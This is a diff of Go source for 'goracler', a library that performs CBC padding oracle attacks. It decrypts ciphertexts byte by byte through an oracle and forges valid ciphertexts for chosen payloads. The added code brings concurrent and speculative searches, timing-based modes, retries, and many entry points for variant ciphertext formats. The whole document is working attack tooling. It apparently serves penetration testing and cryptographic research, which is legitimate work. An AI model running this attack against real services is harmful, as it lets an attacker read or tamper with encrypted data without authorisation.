@@ -1,10 +1,11 @@
 package goracler
 
 import (
+	"bytes"
 	"context"
 	"errors"
-	"log"
 	"sync"
+	"time"
 
 	"github.com/manelmontilla/goracler/crypto"
 )
@@ -14,7 +15,95 @@ var (
 	// the cyphertext passed in is malformed.
 	ErrInvalidCiphertext = errors.New("invalid ciphertext")
 
-	// CipherBlockLen defines the length in bytes of the block cipher.
+	// ErrInvalidRecoveredPad is returned by the DecryptUnpadded function when
+	// the plaintext recovered by the attack does not end with a valid pad,
+	// which usually means the attack went wrong.
+	ErrInvalidRecoveredPad = errors.New("invalid pad in the recovered plaintext")
+
+	// ErrInvalidBlockOrder is returned by the Decrypt function when the
+	// order of the blocks set with the WithBlockOrder option is not valid.
+	ErrInvalidBlockOrder = errors.New("invalid block order")
+
+	// ErrInconsistentOracle is returned when the speculative search of the
+	// bytes of a block is rolled back too many times because the oracle
+	// reported more than one valid value for the same byte.
+	ErrInconsistentOracle = errors.New("oracle returned inconsistent results")
+
+	// ErrAlwaysValidOracle is returned when the oracle reports as valid the
+	// pads of probes that are almost certainly invalid.
+	ErrAlwaysValidOracle = errors.New("oracle appears to always return valid; check your classifier")
+
+	// errBlockBudgetExhausted is returned when the queries allowed to decrypt
+	// a block are exhausted.
+	errBlockBudgetExhausted = errors.New("block query budget exhausted")
+
+	// ErrInvalidBlockLen is returned when the block length set with the
+	// WithBlockLen option is lower than 2.
+	ErrInvalidBlockLen = errors.New("invalid block length")
+
+	// ErrInFlightBytesExceeded is returned by Decrypt when the order of the
+	// blocks requires keeping in memory more plaintext than the limit set
+	// with WithMaxInFlightBytes.
+	ErrInFlightBytesExceeded = errors.New("the block order exceeds the maximum in-flight bytes")
+
+	// ErrDegenerateClassifier is returned by Decrypt when the oracle returns
+	// the same result for a valid and an invalid pad.
+	ErrDegenerateClassifier = errors.New("the oracle returns the same result for valid and invalid pads")
+
+	// ErrInvalidTransform is returned when the transformation set using the
+	// WithCiphertextTransform option changes the length of the ciphertext.
+	ErrInvalidTransform = errors.New("the transformation changed the length of the ciphertext")
+
+	// ErrInvalidBlockCount is returned when the number of blocks set using
+	// the WithValidBlockCount option is less than 2.
+	ErrInvalidBlockCount = errors.New("invalid block count")
+
+	// ErrNoPlaintextSink is returned when the WithLowMemory option is used
+	// without setting a sink using the WithPlaintextSink option.
+	ErrNoPlaintextSink = errors.New("low memory mode requires a plaintext sink")
+
+	// ErrInvalidBlockIndex is returned when the index of a block of
+	// plaintext is out of the range of the blocks of the ciphertext.
+	ErrInvalidBlockIndex = errors.New("invalid block index")
+
+	// ErrInvalidSaltLength is returned when the length of the salt set
+	// using the WithPerBlockSalt option is not lower than the block length.
+	ErrInvalidSaltLength = errors.New("invalid salt length")
+
+	// ErrTruncatedCiphertext is returned by DecryptTruncated, together with
+	// the plaintext of the complete blocks, when the ciphertext is shorter
+	// than its known length.
+	ErrTruncatedCiphertext = errors.New("truncated ciphertext")
+
+	// ErrInvalidGuess is returned by VerifyPlaintext when the guessed
+	// plaintext is not a whole block.
+	ErrInvalidGuess = errors.New("the guess must be a whole block")
+
+	// ErrInvalidForgedPadding is returned by Encrypt when the payload
+	// followed by the padding set with WithForgedPadding is not block
+	// aligned.
+	ErrInvalidForgedPadding = errors.New("the payload and the forged padding are not block aligned")
+
+	// ErrInvalidPaddingOffset is returned when the offset of the
+	// NonTerminalPadding is not lower than the block length minus 1.
+	ErrInvalidPaddingOffset = errors.New("invalid padding offset")
+
+	// ErrUnsupportedPadding is returned by Encrypt when the padding scheme is
+	// a NonTerminalPadding.
+	ErrUnsupportedPadding = errors.New("padding scheme not supported by Encrypt")
+
+	// ErrNoValidByte is returned when none of the possible values of a byte
+	// produced a valid pad.
+	ErrNoValidByte = errors.New("no byte found after a valid attempt")
+
+	// FailedBytePlaceholder is the value of the bytes of the blocks that
+	// couldn't be decrypted when the WithMaxQueriesPerBlock option is used.
+	FailedBytePlaceholder byte = '?'
+
+	// CipherBlockLen defines the default length in bytes of the blocks of
+	// the cipher. It's read each time the options of an attack are applied,
+	// so changing it affects the attacks started afterwards, use the
+	// WithBlockLen option instead to set the length of a single attack.
 	CipherBlockLen = 16
 
 	// MaxGoroutines the maximun number of wokers making queries concurrently to the
@@ -22,6 +111,17 @@ var (
 	MaxGoroutines = 20
 )
 
+// Logger defines the shape of the logger used by the library to write info
+// about the status of the attacks. A *log.Logger satisfies it.
+type Logger interface {
+	Printf(format string, v ...interface{})
+}
+
+// nopLogger is a Logger that discards all the messages.
+type nopLogger struct{}
+
+func (nopLogger) Printf(format string, v ...interface{}) {}
+
 // Poracle defines the shape of the oracle querier needed by the library.
 type Poracle interface {
 	// Do queires the oracle with the cyphertext defined in the c param. It
@@ -29,107 +129,830 @@ type Poracle interface {
 	Do(c []byte) (int, error)
 }
 
+// ContextPoracle is implemented by the oracles that need the context of the
+// attack. When the oracle passed to an attack implements it, the attack calls
+// DoCtx, with the context set by the WithOracleContext option, instead of Do.
+type ContextPoracle interface {
+	Poracle
+	// DoCtx queries the oracle in the same way Do does using the given
+	// context.
+	DoCtx(ctx context.Context, c []byte) (int, error)
+}
+
+// contextOracle is a Poracle that queries a ContextPoracle using a fixed
+// context.
+type contextOracle struct {
+	ContextPoracle
+	ctx context.Context
+}
+
+func (o contextOracle) Do(c []byte) (int, error) {
+	return o.DoCtx(o.ctx, c)
+}
+
+// cancelableOracle is a Poracle that fails with the error of the context of
+// the attack, instead of querying the wrapped oracle, once it's done.
+type cancelableOracle struct {
+	Poracle
+	ctx context.Context
+}
+
+func (o cancelableOracle) Do(c []byte) (int, error) {
+	if err := o.ctx.Err(); err != nil {
+		return 0, err
+	}
+	return o.Poracle.Do(c)
+}
+
+// sleepContext pauses the current goroutine for the duration d or until ctx
+// is done, in which case it returns the error of the context.
+func sleepContext(ctx context.Context, d time.Duration) error {
+	t := time.NewTimer(d)
+	defer t.Stop()
+	select {
+	case <-t.C:
+		return nil
+	case <-ctx.Done():
+		return ctx.Err()
+	}
+}
+
 // Decrypt performs a decrypt attack using the given ciphertext and oracle
-// querier. The block length used is defined in the module var CipherBlockLen.
-// It uses the passed in logger to write info about the status of the attack.
-func Decrypt(c []byte, q Poracle, l *log.Logger) (string, error) {
-	n := len(c) / CipherBlockLen
+// querier. It uses the passed in logger to write info about the status of the
+// attack. The block length used is the one set with the WithBlockLen option,
+// which defaults to the module var CipherBlockLen.
+//
+// By default the recovered plaintext is returned as is, including the pad,
+// the WithPayloadExtractor option can be used to post-process it. The blocks
+// are always returned in the same order they have in the ciphertext,
+// regardless of the order in which they are attacked.
+//
+// When the ciphertext contains the same pair of consecutive blocks more than
+// once, the pair is only attacked the first time and its plaintext is reused
+// for the rest.
+//
+// When the attack fails after starting to attack the blocks, for instance
+// because the oracle returns an error, Decrypt returns the error together
+// with the plaintext of the blocks fully recovered so far. With the default
+// order of the blocks, the attack can be resumed from the block after them.
+func Decrypt(c []byte, q Poracle, l Logger, opts ...Option) (string, error) {
+	return DecryptContext(context.Background(), c, q, l, opts...)
+}
+
+// DecryptContext performs a decrypt attack in the same way Decrypt does, but
+// it stops when the given context is done. In that case, the workers
+// searching the bytes stop without sending more queries and it returns the
+// error of the context, together with the plaintext recovered so far. The
+// queries already sent to the oracle can't be interrupted unless the oracle
+// implements ContextPoracle, but the workers sending them exit as soon as
+// they are answered. When the WithOracleContext option is not used, the
+// context is also the one passed to the DoCtx method of the oracle.
+func DecryptContext(ctx context.Context, c []byte, q Poracle, l Logger, opts ...Option) (string, error) {
+	cfg := newConfig(opts)
+	if err := cfg.validate(); err != nil {
+		return "", err
+	}
+	cfg.attackCtx = ctx
+	m, err := decrypt(c, q, l, cfg)
+	if err != nil && ctx.Err() != nil {
+		return m, ctx.Err()
+	}
+	return m, err
+}
+
+func decrypt(c []byte, q Poracle, l Logger, cfg *config) (string, error) {
+	defer countTraffic(cfg.report, q)()
+	defer collectHistograms(cfg)()
+	q = cfg.oracle(q)
+	if cfg.computeTag != nil {
+		var err error
+		c, err = stripTags(c, cfg.tagLen, cfg.blockLen)
+		if err != nil {
+			return "", err
+		}
+	}
+	if cfg.forward != nil {
+		t := cfg.forward(c)
+		if len(t) != len(c) {
+			return "", ErrInvalidTransform
+		}
+		c = t
+	}
+	n := len(c) / cfg.blockLen
 	if n < 2 {
 		return "", ErrInvalidCiphertext
 	}
-	if len(c)%CipherBlockLen != 0 {
+	if len(c)%cfg.blockLen != 0 {
 		return "", ErrInvalidCiphertext
 	}
+	order, err := cfg.blockOrder(n - 1)
+	if err != nil {
+		return "", err
+	}
+	if cfg.sink != nil && cfg.maxInFlight > 0 && peakPending(order)*(cfg.blockLen-cfg.saltLen) > cfg.maxInFlight {
+		return "", ErrInFlightBytesExceeded
+	}
+	// The last block of a truncated ciphertext doesn't end with a valid
+	// pad, so the checks relying on it are skipped.
+	truncated := cfg.missingBlocks > 0
+	if cfg.report != nil {
+		for j := n - 1; j < n-1+cfg.missingBlocks; j++ {
+			cfg.report.MissingBlocks = append(cfg.report.MissingBlocks, j)
+		}
+	}
+	if cfg.warmup > 0 && !truncated {
+		prev := c[len(c)-2*cfg.blockLen : len(c)-cfg.blockLen]
+		if err := warmup(q, prev, c[len(c)-cfg.blockLen:], l, cfg); err != nil {
+			return "", err
+		}
+	}
+	// The result of the oracle carries no information in a timing attack.
+	timing := cfg.timingSamples > 0
+	if !cfg.skipAlwaysValidCheck && !timing && len(order) > 0 {
+		i := order[0]
+		c0 := c[cfg.blockLen*i : cfg.blockLen*i+cfg.blockLen]
+		c1 := c[cfg.blockLen*(i+1) : cfg.blockLen*(i+1)+cfg.blockLen]
+		if err := checkAlwaysValid(q, c0, c1, cfg); err != nil {
+			return "", err
+		}
+	}
+	if !cfg.skipClassifierCheck && !truncated && !timing {
+		prev := c[len(c)-2*cfg.blockLen : len(c)-cfg.blockLen]
+		if err := checkClassifier(q, prev, c[len(c)-cfg.blockLen:], cfg); err != nil {
+			return "", err
+		}
+	}
+	if cfg.healthInterval > 0 && !truncated {
+		prev := c[len(c)-2*cfg.blockLen : len(c)-cfg.blockLen]
+		q = newHealthOracle(q, prev, c[len(c)-cfg.blockLen:], l, cfg)
+	}
+	var sink *orderedSink
+	if cfg.sink != nil {
+		sink = newOrderedSink(cfg.sink, order)
+	}
 	// The clear text have the same length as the cyphertext - 1
 	// (the IV).
-	var m []byte
-	for i := 1; i < n; i++ {
-		c0 := c[(i-1)*CipherBlockLen : CipherBlockLen*(i-1)+CipherBlockLen]
-		c1 := c[CipherBlockLen*i : (CipherBlockLen*i)+CipherBlockLen]
-		l.Printf("\ndecripting block %d of %d", i, n)
-		mi, err := decryptBlock(c0, c1, q, l)
+	blocks := make([][]byte, n-1)
+	// known contains the masks of the bytes recovered of each block.
+	known := make([][]bool, n-1+cfg.missingBlocks)
+	if cfg.report != nil {
+		defer func() {
+			cfg.report.Coverage = newCoverage(known, cfg.blockLen-cfg.saltLen)
+		}()
+	}
+	// last is the last block of plaintext, if recovered.
+	var last []byte
+	var freqs byteFrequencies
+	// recovered contains the blocks recovered so far indexed by the pair of
+	// blocks of ciphertext they were recovered from.
+	recovered := make(map[string]recoveredBlock)
+	for j, i := range order {
+		if j > 0 && cfg.blockCooldown > 0 {
+			if err := sleepContext(cfg.attackContext(), cfg.blockCooldown); err != nil {
+				return string(joinBlocks(blocks)), err
+			}
+		}
+		c0 := c[cfg.blockLen*i : cfg.blockLen*i+cfg.blockLen]
+		c1 := c[cfg.blockLen*(i+1) : cfg.blockLen*(i+1)+cfg.blockLen]
+		l.Printf("\ndecripting block %d of %d", i+1, n)
+		var mi []byte
+		var err error
+		cfg.skippedBytes = 0
+		cfg.block, cfg.blocks = i, n-1
+		pair := string(c0) + string(c1)
+		dup, isDup := recovered[pair]
+		switch {
+		case isDup:
+			l.Printf("\nblock %d is identical to block %d, reusing its plaintext", i+1, dup.i+1)
+			mi = append([]byte(nil), dup.mi...)
+			cfg.skippedBytes = dup.skipped
+		case cfg.corpus != nil:
+			var d []byte
+			d, err = cfg.corpus.resolve(c1, func() ([]byte, bool, error) {
+				m, err := attackBlock(c0, c1, q, l, cfg, i, i == n-2 && !truncated)
+				if err != nil {
+					return nil, false, err
+				}
+				// Only the blocks fully recovered with the CBCSolver
+				// contain the intermediate values.
+				complete := cfg.solver == CBCSolver && cfg.skippedBytes == 0 &&
+					cfg.padEnd() == cfg.blockLen-1
+				return xorBlocks(m, c0), complete, nil
+			})
+			if err == nil {
+				mi = xorBlocks(d, c0)
+			}
+		default:
+			mi, err = attackBlock(c0, c1, q, l, cfg, i, i == n-2 && !truncated)
+		}
+		failed := false
+		if cfg.maxBlockQueries > 0 && (err == errBlockBudgetExhausted || err == ErrNoValidByte) {
+			l.Printf("\nfailed to decrypt block %d of %d: %s", i+1, n, err)
+			mi = bytes.Repeat([]byte{FailedBytePlaceholder}, cfg.blockLen)
+			failed = true
+			if cfg.report != nil {
+				cfg.report.FailedBlocks = append(cfg.report.FailedBlocks, i)
+			}
+			err = nil
+		}
+		// The blocks already recovered are returned so the caller can
+		// resume the attack from the failed one.
+		if err == ErrNoValidByte {
+			return string(joinBlocks(blocks)), newNoValidByteError(i, cfg)
+		}
 		if err != nil {
-			return "", err
+			return string(joinBlocks(blocks)), err
+		}
+		if !failed && !isDup && !cfg.lowMemory {
+			recovered[pair] = recoveredBlock{i, append([]byte(nil), mi...), cfg.skippedBytes}
+		}
+		if i == n-2 && !truncated {
+			last = mi
+		}
+		if cfg.byteOrder == ReversedByteOrder {
+			mi = reverseBytes(mi)
+		}
+		mi = mi[cfg.saltLen:]
+		known[i] = knownBytes(failed, cfg)
+		if cfg.stats != nil && !failed {
+			cfg.stats.block(len(mi))
+		}
+		if !cfg.lowMemory {
+			blocks[i] = mi
+		}
+		if cfg.crib != nil {
+			var before []byte
+			if i > 0 {
+				before = blocks[i-1]
+			}
+			locateCrib(cfg.crib, before, mi, i, l)
+		}
+		if cfg.onBlock != nil {
+			cfg.onBlock(i, mi)
+		}
+		if sink != nil {
+			if err := sink.write(i, mi); err != nil {
+				return string(joinBlocks(blocks)), err
+			}
+		}
+		if cfg.stopOnMatch != nil && !cfg.lowMemory {
+			if m := joinBlocks(blocks); cfg.stopOnMatch.Match(m) {
+				if cfg.report != nil {
+					cfg.report.StoppedOnMatch = true
+				}
+				return string(m), nil
+			}
+		}
+		if cfg.maxEntropy > 0 {
+			freqs.add(mi)
+			if freqs.n >= cfg.entropyAfter {
+				if h := freqs.entropy(); h > cfg.maxEntropy {
+					l.Printf("\nthe entropy of the recovered plaintext is %.2f, aborting", h)
+					return string(joinBlocks(blocks)), ErrRandomPlaintext
+				}
+			}
+		}
+	}
+	if cfg.report != nil && last != nil {
+		cfg.report.FinalPadLength, _ = padLength(last, cfg.blockLen)
+	}
+	if cfg.lowMemory {
+		if truncated {
+			return "", ErrTruncatedCiphertext
+		}
+		return "", nil
+	}
+	m := joinBlocks(blocks)
+	if truncated {
+		return string(m), ErrTruncatedCiphertext
+	}
+	joined := m
+	if cfg.extractor != nil {
+		m, err = cfg.extractor(m)
+		if err != nil {
+			return string(joined), err
 		}
-		m = append(m, mi...)
+	}
+	m, err = decodeCharset(m, cfg)
+	if err != nil {
+		return string(joined), err
 	}
 	return string(m), nil
 }
 
+// recoveredBlock is a block of plaintext recovered by Decrypt, before
+// removing the salt, kept to reuse it for the identical pairs of blocks of
+// ciphertext.
+type recoveredBlock struct {
+	i       int
+	mi      []byte
+	skipped int
+}
+
+// knownBytes returns the mask of the bytes of the last block attacked that
+// were recovered, laid out as they are in the plaintext.
+func knownBytes(failed bool, cfg *config) []bool {
+	mask := make([]bool, cfg.blockLen)
+	for k := range mask {
+		mask[k] = !failed && k >= cfg.skippedBytes && k <= cfg.padEnd()
+	}
+	if cfg.byteOrder == ReversedByteOrder {
+		for i, j := 0, len(mask)-1; i < j; i, j = i+1, j-1 {
+			mask[i], mask[j] = mask[j], mask[i]
+		}
+	}
+	return mask[cfg.saltLen:]
+}
+
+// DecryptTruncated performs a decrypt attack in the same way Decrypt does on
+// a ciphertext, including the IV, truncated to less than its known length,
+// which must be block aligned. The complete blocks present are attacked, and
+// the trailing incomplete block, if any, is ignored. When the ciphertext is
+// truncated it returns the plaintext of the complete blocks together with
+// ErrTruncatedCiphertext, and the report set with WithReport lists the
+// missing blocks of plaintext in MissingBlocks. The payload extractor isn't
+// applied to the partial plaintext, and the checks that rely on the last block
+// having a valid pad, like the classifier check, the warmup and the health
+// checks, are skipped. When the ciphertext has its known length it behaves as
+// Decrypt.
+func DecryptTruncated(c []byte, knownLen int, q Poracle, l Logger, opts ...Option) (string, error) {
+	cfg := newConfig(opts)
+	if knownLen < 2*cfg.blockLen || knownLen%cfg.blockLen != 0 || len(c) > knownLen {
+		return "", ErrInvalidCiphertext
+	}
+	complete := len(c) / cfg.blockLen
+	total := knownLen / cfg.blockLen
+	if complete == total {
+		return Decrypt(c, q, l, opts...)
+	}
+	if complete < 2 {
+		return "", ErrInvalidCiphertext
+	}
+	l.Printf("\nthe ciphertext is truncated, blocks %d to %d of %d are missing", complete, total-1, total-1)
+	opts = append(opts, withMissingBlocks(total-complete))
+	return Decrypt(c[:complete*cfg.blockLen], q, l, opts...)
+}
+
+// DecryptWithIV performs a decrypt attack in the same way Decrypt does for
+// ciphertexts where the IV is not prepended to the ciphertext. The length of
+// the iv must be the block length.
+func DecryptWithIV(iv, c []byte, q Poracle, l Logger, opts ...Option) (string, error) {
+	cfg := newConfig(opts)
+	if len(iv) != cfg.blockLen {
+		return "", ErrInvalidCiphertext
+	}
+	full := make([]byte, 0, len(iv)+len(c))
+	full = append(full, iv...)
+	full = append(full, c...)
+	return Decrypt(full, q, l, opts...)
+}
+
+// DecryptWithIVFunc performs a decrypt attack in the same way DecryptWithIV
+// does for ciphertexts whose IV is not sent but can be derived, for instance,
+// from a message counter or a timestamp. The IV is the one returned by ivFor
+// for the given messageIndex, which must have the block length, otherwise
+// ErrInvalidCiphertext is returned.
+func DecryptWithIVFunc(c []byte, messageIndex int, ivFor func(messageIndex int) []byte, q Poracle, l Logger, opts ...Option) (string, error) {
+	return DecryptWithIV(ivFor(messageIndex), c, q, l, opts...)
+}
+
+// DecryptAtOffset performs a decrypt attack in the same way Decrypt does for
+// data where the CBC ciphertext starts at the given offset, after a header
+// that is not encrypted. The ciphertext must start with the IV, so the block
+// at the offset is taken as the IV, and its length, from the offset to the
+// end of the data, must be block aligned, otherwise ErrInvalidCiphertext is
+// returned. The probes sent to the oracle are prefixed with the header, so the
+// oracle receives messages with the same format as the data.
+func DecryptAtOffset(data []byte, offset int, q Poracle, l Logger, opts ...Option) (string, error) {
+	cfg := newConfig(opts)
+	if offset < 0 || offset > len(data) || (len(data)-offset)%cfg.blockLen != 0 {
+		return "", ErrInvalidCiphertext
+	}
+	header := make([]byte, offset)
+	copy(header, data)
+	opts = append(opts, func(c *config) { c.header = header })
+	return Decrypt(data[offset:], q, l, opts...)
+}
+
+// DecryptChunks performs a decrypt attack in the same way Decrypt does for
+// ciphertexts delivered as separate messages, one per block. The first chunk
+// must be the IV and each chunk must have exactly the block length,
+// otherwise ErrInvalidCiphertext is returned.
+func DecryptChunks(chunks [][]byte, q Poracle, l Logger, opts ...Option) (string, error) {
+	cfg := newConfig(opts)
+	c := make([]byte, 0, len(chunks)*cfg.blockLen)
+	for _, chunk := range chunks {
+		if len(chunk) != cfg.blockLen {
+			return "", ErrInvalidCiphertext
+		}
+		c = append(c, chunk...)
+	}
+	return Decrypt(c, q, l, opts...)
+}
+
+// reverseBytes returns a copy of the given block with its bytes in reverse
+// order.
+func reverseBytes(b []byte) []byte {
+	r := make([]byte, len(b))
+	for i := range b {
+		r[len(b)-1-i] = b[i]
+	}
+	return r
+}
+
+// joinBlocks returns the concatenation, in order, of the blocks that are not
+// nil.
+func joinBlocks(blocks [][]byte) []byte {
+	n := 0
+	for _, b := range blocks {
+		n += len(b)
+	}
+	m := make([]byte, 0, n)
+	for _, b := range blocks {
+		m = append(m, b...)
+	}
+	return m
+}
+
+// DecryptUnpadded performs a decrypt attack in the same way Decrypt does and
+// removes the PKCS#7 pad from the recovered plaintext. It returns
+// ErrInvalidRecoveredPad if the pad of the recovered plaintext is not valid.
+// A different PayloadExtractor can be set using the WithPayloadExtractor
+// option.
+func DecryptUnpadded(c []byte, q Poracle, l Logger, opts ...Option) (string, error) {
+	opts = append([]Option{WithPayloadExtractor(NewPKCS7Extractor(newConfig(opts).blockLen))}, opts...)
+	return Decrypt(c, q, l, opts...)
+}
+
+// Plaintext is the plaintext recovered by a decrypt attack split in the
+// message and the PKCS#7 pad.
+type Plaintext struct {
+	Data    []byte
+	Padding []byte
+}
+
+// DecryptStructured performs a decrypt attack in the same way Decrypt does and
+// splits the recovered plaintext in the message and the pad. It returns
+// ErrInvalidRecoveredPad if the pad of the recovered plaintext is not valid.
+func DecryptStructured(c []byte, q Poracle, l Logger, opts ...Option) (Plaintext, error) {
+	m, err := Decrypt(c, q, l, opts...)
+	if err != nil {
+		return Plaintext{}, err
+	}
+	p, err := padLength([]byte(m), newConfig(opts).blockLen)
+	if err != nil {
+		return Plaintext{}, err
+	}
+	n := len(m) - p
+	return Plaintext{Data: []byte(m[:n]), Padding: []byte(m[n:])}, nil
+}
+
 // Encrypt performs an encrypt attack using the given ciphertext and oracle
-// querier. The block length it uses is defined in the var CipherBlockLen. It
-// uses the logger l to write info about the status of the attack.
-func Encrypt(payload []byte, q Poracle, l *log.Logger) ([]byte, error) {
-	payload = crypto.PCKCS5Pad(payload)
-	n := len(payload) / CipherBlockLen
+// querier. The block length it uses is the one set with the WithBlockLen
+// option, which defaults to the var CipherBlockLen. It uses the logger l to
+// write info about the status of the attack.
+func Encrypt(payload []byte, q Poracle, l Logger, opts ...Option) ([]byte, error) {
+	return EncryptContext(context.Background(), payload, q, l, opts...)
+}
+
+// EncryptContext performs an encrypt attack in the same way Encrypt does, but
+// it stops when the given context is done, returning the error of the
+// context. See DecryptContext for the details.
+func EncryptContext(ctx context.Context, payload []byte, q Poracle, l Logger, opts ...Option) ([]byte, error) {
+	cfg := newConfig(opts)
+	if err := cfg.validate(); err != nil {
+		return nil, err
+	}
+	cfg.attackCtx = ctx
+	c, err := encrypt(payload, q, l, cfg)
+	if err != nil && ctx.Err() != nil {
+		return nil, ctx.Err()
+	}
+	return c, err
+}
+
+func encrypt(payload []byte, q Poracle, l Logger, cfg *config) ([]byte, error) {
+	if cfg.padEnd() != cfg.blockLen-1 {
+		return nil, ErrUnsupportedPadding
+	}
+	// Forging needs the intermediate values as seen by the oracle.
+	cfg.solver = CBCSolver
+	q = cfg.oracle(q)
+	if cfg.forgedPadding != nil {
+		m := make([]byte, 0, len(payload)+len(cfg.forgedPadding))
+		payload = append(append(m, payload...), cfg.forgedPadding...)
+		if len(payload) == 0 || len(payload)%cfg.blockLen != 0 {
+			return nil, ErrInvalidForgedPadding
+		}
+	} else {
+		payload = pad(cfg.padding, payload, cfg.blockLen)
+	}
+	n := len(payload) / cfg.blockLen
 
 	// The clear text have the same length as the cyphertext - 1
 	// (the IV).
 	var im []byte
-	var c1 = make([]byte, CipherBlockLen, CipherBlockLen)
-	var c0 = make([]byte, CipherBlockLen, CipherBlockLen)
+	var c1 = make([]byte, cfg.blockLen, cfg.blockLen)
+	var c0 = make([]byte, cfg.blockLen, cfg.blockLen)
+	if !cfg.skipAlwaysValidCheck {
+		if err := checkAlwaysValid(q, c0, c1, cfg); err != nil {
+			return nil, err
+		}
+	}
 
 	// Last block of the encrypted value is not related to the
 	// text to encrypt, can contain any value.
 	var c []byte
 	c = append(c, c1...)
+	if cfg.onForged != nil {
+		cfg.onForged(n, c1)
+	}
 	for i := n - 1; i >= 0; i-- {
-		di, err := decryptBlock(c0, c1, q, l)
+		cfg.block, cfg.blocks = i, n
+		attack := func() ([]byte, bool, error) {
+			cfg.trace.startBlock(i, cfg.blockLen)
+			d, err := decryptBlock(c0, c1, q, l, cfg)
+			return d, cfg.skippedBytes == 0, err
+		}
+		var di []byte
+		var err error
+		if cfg.corpus != nil {
+			di, err = cfg.corpus.resolve(c1, attack)
+		} else {
+			di, _, err = attack()
+		}
 		if err != nil {
 			return nil, err
 		}
 		mi := di
 		im = append(im, mi...)
-		ti := payload[CipherBlockLen*i : (CipherBlockLen*i)+CipherBlockLen]
+		ti := payload[cfg.blockLen*i : (cfg.blockLen*i)+cfg.blockLen]
 		c1 = crypto.BlockXOR(ti, mi)
 		c = append(c1, c...)
+		if cfg.onForged != nil {
+			cfg.onForged(i, c1)
+		}
+	}
+	if cfg.inverse != nil {
+		c = cfg.inverse(c)
+	}
+	if cfg.computeTag != nil {
+		c = insertTags(c, cfg.computeTag, cfg.blockLen)
 	}
 	return c, nil
 }
 
-func decryptBlock(prev, current []byte, q Poracle, l *log.Logger) ([]byte, error) {
-	var mi = make([]byte, CipherBlockLen)
-	for p := CipherBlockLen - 1; p >= 0; p-- {
-		// Generate a channel with values from 0 to 255.
-		var values = make(chan byte, 256)
-		for g := 0; g < 256; g++ {
-			if byte(g) == prev[p] && p == CipherBlockLen-1 {
+// attackBlock decrypts the block of plaintext at the index i, retrying the
+// attack as many times as set by the WithBlockRetries option when the block
+// looks corrupted. When isLast is true the block is the last one of the
+// plaintext, so its pad is also checked.
+func attackBlock(c0, c1 []byte, q Poracle, l Logger, cfg *config, i int, isLast bool) ([]byte, error) {
+	for attempt := 0; ; attempt++ {
+		bq := q
+		if cfg.maxBlockQueries > 0 {
+			bq = budgetOracle{q, NewQueryBudget(cfg.maxBlockQueries), errBlockBudgetExhausted}
+		}
+		cfg.trace.startBlock(i, cfg.blockLen)
+		m, err := decryptBlock(c0, c1, bq, l, cfg)
+		corrupted := err == ErrNoValidByte || err == ErrInconsistentOracle
+		if err == nil && isLast && cfg.blockRetries > 0 && cfg.solver == CBCSolver {
+			_, err := unpad(cfg.padding, m, cfg.blockLen)
+			corrupted = err != nil
+		}
+		if attempt >= cfg.blockRetries || !corrupted {
+			return m, err
+		}
+		l.Printf("\nblock %d looks corrupted, retrying", i+1)
+	}
+}
+
+func decryptBlock(prev, current []byte, q Poracle, l Logger, cfg *config) ([]byte, error) {
+	var mi = make([]byte, cfg.blockLen)
+	// pending contains the searches whose value is being used speculatively
+	// before all their workers have finished.
+	var pending []*positionSearch
+	rollbacks := 0
+	// skipped is the position of the byte skipped because no valid value
+	// was found for it, or -1 if no byte was skipped.
+	skipped := -1
+	start := cfg.padEnd()
+	if cfg.ambiguityDepth > 0 && cfg.timingSamples == 0 {
+		var err error
+		start, err = exploreLastByte(prev, current, q, mi, l, cfg)
+		if err != nil {
+			return nil, err
+		}
+	}
+	for p := start; p >= 0; p-- {
+		// The last byte of a block can have more than one valid value, so
+		// it's never speculated.
+		speculate := !cfg.sequential && cfg.timingSamples == 0 && cfg.speculation > 0 && p != cfg.padEnd()
+		val, s, err := searchPosition(prev, current, q, mi, p, l, cfg, speculate)
+		if s != nil && speculate {
+			pending = append(pending, s)
+		}
+		if err == ErrNoValidByte && cfg.skipUnrecoverable && len(pending) == 0 {
+			l.Printf("\nno valid value found for byte %d, skipping it and the bytes before it", p)
+			skipped = p
+			break
+		}
+		if err == ErrNoValidByte {
+			cfg.failedPos = p
+		}
+		if err != nil {
+			return nil, err
+		}
+		mi[p] = val ^ prev[p] ^ cfg.padding.PadByte(cfg.padLen(p), 0)
+		cfg.trace.found(p, val)
+		cfg.byteFound(p)
+
+		for len(pending) > cfg.speculation || (p == 0 && len(pending) > 0) {
+			oldest := pending[0]
+			pending = pending[1:]
+			ok, err := oldest.confirm()
+			if err != nil {
+				return nil, err
+			}
+			if ok {
 				continue
 			}
-			values <- byte(g)
+			// Roll back to the position that was not confirmed.
+			rollbacks++
+			if rollbacks > maxRollbacks {
+				return nil, ErrInconsistentOracle
+			}
+			pending = nil
+			p = oldest.p + 1
+			break
 		}
-		close(values)
+	}
+	// The bytes recovered so far are the ones seen by the oracle, which
+	// are used to build the probes, so the Solver is applied at the end.
+	if cfg.solver != CBCSolver {
+		for p := skipped + 1; p <= cfg.padEnd(); p++ {
+			mi[p] = cfg.solver.Plaintext(p, mi[p]^prev[p], prev[p])
+		}
+	}
+	for p := 0; p <= skipped; p++ {
+		mi[p] = FailedBytePlaceholder
+	}
+	cfg.skippedBytes = skipped + 1
+	// The trailer after a non-terminal pad can't be recovered.
+	for p := cfg.padEnd() + 1; p < len(mi); p++ {
+		mi[p] = FailedBytePlaceholder
+	}
+	return mi, nil
+}
 
-		// Create workers.
-		var wg sync.WaitGroup
-		ctx, cancel := context.WithCancel(context.Background())
-		done := make(chan checkValueRes, 256)
-		for i := 0; i < MaxGoroutines; i++ {
-			wg.Add(1)
-			w := oracleWorker{ctx, cancel, &wg, prev, current, q, mi, p, values, done, l}
-			go w.checkValuePad()
+// searchPosition searches the value of the byte at the position p that
+// produces a valid pad, repeating the search as many times as set by the
+// WithPositionRetry option when no value is found. When speculate is true it
+// returns the first value found, and the search to confirm it.
+func searchPosition(prev, current []byte, q Poracle, mi []byte, p int, l Logger, cfg *config, speculate bool) (byte, *positionSearch, error) {
+	for attempt := 0; ; attempt++ {
+		var val byte
+		var s *positionSearch
+		var err error
+		switch {
+		case cfg.timingSamples > 0:
+			val, err = searchTiming(prev, current, q, mi, p, l, cfg)
+		case cfg.sequential:
+			val, err = searchSequential(prev, current, q, mi, p, l, cfg)
+		case speculate:
+			s = startPositionSearch(prev, current, q, mi, p, l, cfg)
+			val, err = s.first()
+		default:
+			s = startPositionSearch(prev, current, q, mi, p, l, cfg)
+			val, err = s.result()
 		}
+		if err != ErrNoValidByte || attempt >= cfg.positionRetries {
+			return val, s, err
+		}
+		l.Printf("\nno valid value found for byte %d, searching again", p)
+	}
+}
+
